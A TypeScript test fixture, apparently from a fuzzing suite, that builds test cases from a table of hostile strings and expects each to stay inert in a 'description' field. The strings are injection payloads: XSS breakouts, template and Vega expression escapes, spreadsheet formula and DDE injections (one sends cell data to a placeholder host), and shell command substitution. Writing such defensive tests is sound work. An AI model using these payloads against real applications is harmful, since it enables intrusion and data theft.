/** Texts that would act if anything took them for more than text. */
import type { Case } from './corpus.ts'
import { Mutator } from './mutate.ts'

const HOSTILE: Readonly<Record<string, string>> = {
  'script-close': `</script><img src=x onerror="document.title='PWNED'">`,
  'svg-onload': `"><svg/onload=document.title='PWNED'>`,
  comment: '--><!--<script>document.title="PWNED"</script>',
  'style-close': '</style><style>*{display:none}',
  'title-close': '</title><script>document.title=1</script>',
  attribute: `' onmouseover='document.title=1' x='`,
  entity: '&lt;b&gt; &amp; &#x27;',
  template: '${7*7} {{7*7}} <%= 7*7 %>',
  'vega-expression': `x' || datum.constructor.constructor('return 1')() || 'y`,
  'vega-to-string': '{toString: [].constructor.constructor}',
  'csv-equals': '=HYPERLINK("http://x/?"&A1,"click")',
  'csv-plus': "+cmd|' /C calc'!A0",
  'csv-minus': '-2+3+cmd',
  'csv-at': '@SUM(1+1)*cmd',
  'csv-tab': '\t=1+1',
  'csv-quote': 'a","b\r\n=1+1',
  'javascript-url': 'javascript:document.title=1',
  'data-url': 'data:text/html,<script>document.title=1</script>',
  format: '%s%d%n %c',
  markdown: '[x](javascript:alert(1)) ![y](http://x/)',
  shell: '$(touch PWNED) `touch PWNED`; touch PWNED',
  unicode: '稀土 🧲 עברית',
}

export function textCases(valid: string): readonly Case[] {
  const mutator = new Mutator(valid)
  return Object.entries(HOSTILE).map(([id, payload]) => ({
    id: `text-${id}`,
    verdict: 'inert',
    payload,
    ...mutator.value(['description'], JSON.stringify(payload)),
  }))
}
